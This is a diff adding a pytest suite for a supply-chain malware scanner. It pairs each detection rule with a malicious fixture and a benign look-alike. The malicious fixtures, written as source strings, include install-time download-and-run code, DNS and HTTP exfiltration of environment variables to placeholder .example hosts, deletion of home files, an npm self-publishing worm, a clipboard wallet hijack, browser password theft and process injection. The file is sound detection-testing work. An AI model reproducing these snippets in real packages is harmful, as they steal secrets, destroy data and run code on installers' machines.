@@ -1,0 +1,186 @@
+"""The attack patterns of issue 14 (verdict/rules/patterns.yaml): each rule fires on a malicious
+fixture and stays quiet on a benign look-alike modelled on real packages' code, through the real
+static pass and verdict; the evasions the issue lists (computed names, decoding through a variable,
+hiding in tests/) are among the malicious fixtures.
+
+TEST FIXTURES, NOT MALWARE: the snippets reproduce attack patterns as source text only; their
+hosts are reserved example names or documentation addresses."""
+
+from __future__ import annotations
+
+import pytest
+
+from verdict.fixtures import npm, sdist
+from pkgtrace.model import Ecosystem
+
+P, N = Ecosystem.PYPI, Ecosystem.NPM
+TAIL = "\nfrom setuptools import setup\nsetup(name='pkg', version='1.0.0')\n"
+
+
+def setup_py(body: str) -> dict[str, str]:
+    return {"setup.py": body + TAIL, "pkg/__init__.py": ""}
+
+
+def module(body: str, path: str = "pkg/core.py") -> dict[str, str]:
+    return {"setup.py": TAIL, "pkg/__init__.py": "from . import core\n", path: body}
+
+
+def py(files: dict[str, str]):
+    return (P, "pkg", sdist("pkg", files))
+
+
+def js(files: dict[str, str], scripts: dict | None = None):
+    return (N, "jspkg", npm("jspkg", files, scripts=scripts))
+
+
+CASES = [
+    ("STATIC-SETUP-DOWNLOAD-RUN",
+     # barcodegeneratorqr-style cmdclass override
+     py(setup_py("import requests as u, subprocess, sys\nfrom setuptools.command.install import install\n"
+                 "class I(install):\n    def run(self):\n        r = u.get(URL)\n"
+                 "        with open('q.py', 'wb') as f:\n            f.write(r.content)\n"
+                 "        subprocess.check_call([sys.executable, 'q.py'])\n")),
+     # pysqlite-style: fetch the amalgamation and build an Extension
+     py(setup_py("import urllib.request, subprocess\nfrom setuptools import Extension\n"
+                 "urllib.request.urlretrieve(AMALGAMATION, 'sqlite.zip')\nsubprocess.check_call(['unzip', 'sqlite.zip'])\n"
+                 "ext = Extension('pkg._sqlite', ['src/module.c'])\n"))),
+    ("STATIC-SETUP-DNS-PROBE",
+     py(setup_py("import subprocess\nsubprocess.getoutput('dig @1.1.1.1 install.api.pkg-callback.example')\n")),
+     py(setup_py("import subprocess\nsubprocess.check_output(['git', 'describe', '--tags'])\n"))),
+    ("STATIC-INSTALL-OVERRIDE-DELETES",
+     py(setup_py("import shutil, os\nfrom setuptools.command.install import install\nclass I(install):\n"
+                 "    def run(self):\n        shutil.rmtree(os.path.expanduser('~/Documents'))\ncmdclass = {'install': I}\n")),
+     py(setup_py("import shutil, os\nfrom setuptools.command.install import install\nclass I(install):\n"
+                 "    def run(self):\n        shutil.rmtree('build', ignore_errors=True)\ncmdclass = {'install': I}\n"))),
+    ("STATIC-DNS-EXFIL",
+     py(module("import socket\ndef send(data):\n    h = data.encode().hex()\n"
+               "    for i in range(0, len(h), 50):\n        socket.gethostbyname(f'{h[i:i+50]}.c.exfil.example')\n"
+               "send(socket.gethostname())\n")),
+     # slixmpp-style SRV lookup
+     py(module("import dns.resolver\ndef srv(domain):\n    for r in dns.resolver.resolve(f'_xmpp-client._tcp.{domain}', 'SRV'):\n"
+               "        yield r.target\n"))),
+    ("STATIC-DNS-EXFIL",  # npm: dns.lookup with hex chunks
+     js({"index.js": "const dns = require('dns'), os = require('os');\nconst h = Buffer.from(os.hostname()).toString('hex');\n"
+                     "for (const c of h.match(/.{1,60}/g)) dns.lookup(`${c}.x.exfil.example`, () => {});\n"}),
+     js({"index.js": "const dns = require('dns');\nmodule.exports = (host, cb) => dns.lookup(host, cb);\n"})),
+    ("STATIC-PY-DECODE-RUN-PROCESS",
+     py(module("import base64, subprocess\ncmd = base64.b64decode(BLOB).decode()\nlog('x')\nsubprocess.Popen(cmd.split())\n")),
+     py(module("import base64, subprocess\ntoken = base64.b64decode(BLOB)\nsubprocess.run(['git', 'status'])\n"))),
+    ("STATIC-PY-DECODE-RUN-PROCESS",  # python -c with the decoded code
+     py(module("import base64, subprocess, sys\nsubprocess.Popen([sys.executable, '-c', base64.b64decode(B).decode()])\n")),
+     py(module("import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import sys; print(sys.path)'])\n"))),
+    ("STATIC-PY-DECODE-EXEC-VAR",
+     py(module("import base64\npayload = base64.b64decode(DATA)\nx = 1\nexec(payload)\n")),
+     py(module("import base64\nicon = base64.b64decode(ICON)\nexec(compile(open('cfg.py').read(), 'cfg.py', 'exec'))\n"))),
+    ("STATIC-PY-CODEC-ENCODED-EXEC",
+     py(module("exec(b'\\x89\\x94\\x97'.decode('cp1026'))\n")),
+     py(module("exec(open(path, encoding='utf-8').read())\n"))),
+    ("STATIC-PY-CODEC-ENCODED-EXEC",
+     py(module("exec('\\151\\155\\160\\157\\162\\164\\040\\157\\163')\n")),
+     py(module("print('\\151\\155\\160\\157\\162\\164\\040\\157\\163')\n"))),
+    ("STATIC-PY-BUILTINS-LOOKUP",
+     py(module("f = vars(__builtins__)['ex' + 'ec']\nf(CODE)\n")),
+     # six-style: names bound into globals()
+     py(module("for name in __all__:\n    globals()[name] = getattr(_impl, name)\n"))),
+    ("STATIC-PY-BUILTINS-LOOKUP",
+     py(module("g = globals()['__builtins__']\nrun = globals()[''.join(['e', 'x', 'e', 'c'])]\n")),
+     py(module("handler = globals().get('handle_' + kind)\n"))),
+    ("STATIC-PY-SILENT-POPEN",
+     py(module("import subprocess\nsubprocess.Popen(['stub.exe'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,\n"
+               "                 creationflags=0x08000000)\n")),
+     # webbrowser-style: open a viewer quietly
+     py(module("import subprocess\nsubprocess.Popen(['xdg-open', path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,\n"
+               "                 start_new_session=True)\n"))),
+    ("STATIC-JS-DETACHED-SILENT-CHILD",
+     js({"index.js": "const {spawn} = require('child_process');\nspawn('node', ['p.js'], {detached: true, stdio: 'ignore'}).unref();\n"}),
+     # a CLI that starts a detached worker from a command (not at require time)
+     js({"index.js": "module.exports = 1;\n", "lib/daemon.js": "const {spawn} = require('child_process');\n"
+         "exports.start = () => spawn(process.execPath, ['w.js'], {detached: true, stdio: 'ignore'}).unref();\n"})),
+    ("STATIC-JS-COMPUTED-MODULE",
+     js({"index.js": "const cp = require('child_' + 'process');\ncp.exec('id');\n"}),
+     js({"index.js": "const plugin = require('./plugins/' + name);\nmodule.exports = plugin;\n"})),
+    ("STATIC-JS-COMPUTED-MODULE",
+     js({"index.js": "const e = Reflect.get(process, 'env');\nmodule.exports = e;\n"}),
+     js({"index.js": "const v = Reflect.get(target, 'value');\nmodule.exports = v;\n"})),
+    ("STATIC-JS-COMPUTED-MODULE",
+     js({"index.js": "const r = process.mainModule.require;\nr('child_process').execSync('id');\n"}),
+     js({"index.js": "define(['jquery'], function ($) { return $; });\nrequire(['jquery'], function ($) {});\n"})),
+    ("STATIC-JS-STRING-ARRAY-OBFUSCATION",
+     js({"index.js": "function _0x1a2b(){var _0x3c4d=['log','env','exec'];_0x1a2b=function(){return _0x3c4d;};return _0x1a2b();}\n"
+                     "(function(_0x5e6f,_0x7a8b){var _0x9c=_0x5e6f();while(!![]){try{break;}catch(e){_0x9c['push'](_0x9c['shift']());}}}(_0x1a2b,0x1));\n"}),
+     js({"index.js": "function hash(s){let h=0;for(let i=0;i<s.length;i++){h=(h<<5)-h+s.charCodeAt(i)^7;}return h;}\nmodule.exports=hash;\n"})),
+    ("STATIC-JS-STRING-ARRAY-OBFUSCATION",  # XOR decoding loop feeding eval
+     js({"index.js": "let o='';for(let i=0;i<d.length;i++){o+=String.fromCharCode(d.charCodeAt(i)^k);}\neval(o);\n"}),
+     js({"index.js": "let o='';for(let i=0;i<d.length;i++){o+=String.fromCharCode(d.charCodeAt(i)^k);}\nconsole.log(o);\n"})),
+    ("STATIC-JS-HEX-REQUIRE-EVAL",
+     js({"index.js": "const m = require(Buffer.from('6368696c645f70726f63657373', 'hex').toString());\nm.exec('id');\n"}),
+     # lodash/core-js: the global object
+     js({"index.js": "var root = new Function('return this')();\nmodule.exports = root;\n"})),
+    ("STATIC-JS-DECODE-EXEC",  # exec on a child_process handle, not RegExp#exec (satori)
+     js({"index.js": "require('child_process').exec(Buffer.from(CMD, 'base64').toString());\n"}),
+     js({"index.js": "const m = /^data:(?<t>[a-z/+]+);base64,(?<d>.*)/g.exec(url).groups; const b = Buffer.from(m.d, 'base64');\n"})),
+    ("STATIC-OBFUSCATED-INSTALL-CODE",  # pyspark: setup.py imports the package, which imports protobuf modules
+     py(setup_py("exec(__import__('zlib').decompress(b'" + "\\x78" * 1200 + "'))\n")),
+     py({"setup.py": "from pkg import proto_pb2\n" + TAIL, "pkg/__init__.py": "",
+         "pkg/proto_pb2.py": "from google.protobuf import descriptor_pool as _descriptor_pool\n"
+         "DESCRIPTOR = _descriptor_pool.Default().AddSerializedFile(b'" + "\\n\\x18" * 1200 + "')\n"
+         "_builder = lambda: None\n"})),
+    ("STATIC-JS-ENV-EXFIL",
+     js({"index.js": "const axios = require('axios');\naxios.post('https://collect.example/e', JSON.stringify(process.env));\n"}),
+     js({"index.js": "const {spawn} = require('child_process');\nspawn('node', ['x.js'], {env: {...process.env, FORCE_COLOR: '1'}});\n"})),
+    ("STATIC-NPM-WORM-PUBLISH",
+     js({"index.js": "", "install.js": "const {execSync} = require('child_process');\nconst t = require('fs').readFileSync(home + '/.npmrc');\n"
+                     "execSync('npm publish --access public');\n"}, scripts={"postinstall": "node install.js"}),
+     # a release script run by the maintainer, not at install
+     js({"index.js": "", "scripts/release.js": "const {execSync} = require('child_process');\n"
+                     "if (!process.env.NPM_TOKEN) throw 1;\nexecSync('npm publish');\n"}, scripts={"release": "node scripts/release.js"})),
+    ("STATIC-CLIPBOARD-HIJACK",
+     py(module("import pyperclip, re\nwhile True:\n    t = pyperclip.paste()\n    if re.match(r'^0x[a-fA-F0-9]{40}$', t):\n        pyperclip.copy(MINE)\n")),
+     py(module("import pyperclip\ndef copy_password(p):\n    pyperclip.copy(p)\n"))),
+    ("STATIC-CLIPBOARD-HIJACK",
+     js({"index.js": "const clipboardy = require('clipboardy');\nsetInterval(() => { const t = clipboardy.readSync();\n"
+                     "if (/^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}$/.test(t)) clipboardy.writeSync(wallet); }, 500);\n"}),
+     js({"index.js": "const clipboardy = require('clipboardy');\nmodule.exports = (s) => clipboardy.writeSync(s);\n"})),
+    ("STATIC-SCREEN-CAPTURE-SEND",
+     py(module("from PIL import ImageGrab\nimport requests\nImageGrab.grab().save('s.png')\nrequests.post(HOOK, files={'f': open('s.png', 'rb')})\n")),
+     py(module("import pyautogui\ndef snap(path):\n    pyautogui.screenshot().save(path)\n"))),
+    ("STATIC-BROWSER-PASSWORD-THEFT",
+     py(module("import sqlite3, win32crypt\ndb = sqlite3.connect(p + 'Login Data')\n"
+               "for u, pw in db.execute('SELECT action_url, password_value FROM logins'):\n"
+               "    win32crypt.CryptUnprotectData(pw)\n")),
+     py(module("import sqlite3\ndb = sqlite3.connect(profile + '/History')\nrows = db.execute('SELECT url FROM urls')\n"))),
+    ("STATIC-PROCESS-INJECTION",
+     py(module("import ctypes\nk = ctypes.windll.kernel32\naddr = k.VirtualAllocEx(h, 0, n, 0x3000, 0x40)\n\n"
+               "k.WriteProcessMemory(h, addr, sc, n, 0)\n\nk.CreateRemoteThread(h, None, 0, addr, None, 0, None)\n")),
+     # a JIT that allocates executable memory in its own process
+     py(module("import ctypes\nbuf = ctypes.windll.kernel32.VirtualAlloc(0, n, 0x3000, 0x40)\nctypes.memmove(buf, code, n)\n"))),
+    ("STATIC-PROCESS-INJECTION",
+     py(module("open('/etc/ld.so.preload', 'w').write('/tmp/.x.so')\n")),
+     py(module("import os\nos.environ['LD_PRELOAD'] = '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'\n"))),
+    ("STATIC-SHADY-URL",
+     py({"setup.py": TAIL, "pkg/__init__.py": "import requests\nrequests.get('https://grabify.link/ABC123')\n"}),
+     py({"setup.py": TAIL, "pkg/__init__.py": '"""Docs: https://bit.ly/pkg-docs"""\n'})),
+    ("STATIC-SHADY-URL",
+     js({"index.js": "fetch('https://relay.acme-cdn.workers.dev/c?d=' + d);\n"}),
+     js({"index.js": "// mirrored at https://relay.acme-cdn.workers.dev\nmodule.exports = 1;\n"})),
+    ("STATIC-IP-LOOKUP-INSTALL",
+     py(setup_py("import requests\nip = requests.get('https://api.ipify.org').text\n")),
+     py({"setup.py": TAIL, "pkg/__init__.py": "", "pkg/geo.py": "import requests\n"
+         "def my_ip():\n    return requests.get('https://api.ipify.org').text\n"})),
+    ("STATIC-ENV-POSTED",
+     py(module("import os, requests\nrequests.post('https://c.example/e', json=dict(os.environ))\n")),
+     py(module("import os, subprocess, requests\nenv = dict(os.environ)\nsubprocess.run(['make'], env=env)\nrequests.post(URL, json=payload)\n"))),
+    ("STATIC-ENV-POSTED",
+     py(module("import os, requests\nrequests.get(f\"https://c.example/{os.environ.get('AWS_SECRET_ACCESS_KEY')}\")\n")),
+     py(module("import os, requests\nrequests.get(f\"https://{os.environ.get('API_HOST')}/v1/items\")\n"))),
+]
+
+
+@pytest.mark.parametrize("rule,malicious,benign", CASES, ids=[c[0] for c in CASES])
+def test_pattern_fires_on_malicious_and_not_on_lookalike(judged, rule, malicious, benign):
+    bad = judged(malicious[2], malicious[0], malicious[1])
+    assert rule in bad["rules_fired"], bad["findings"]
+    f = next(f for f in bad["findings"] if f["rule"] == rule)
+    assert f["evidence"].get("file") and f["evidence"].get("line", 0) >= 1
+    good = judged(benign[2], benign[0], benign[1])
+    assert rule not in good["rules_fired"], good["findings"]
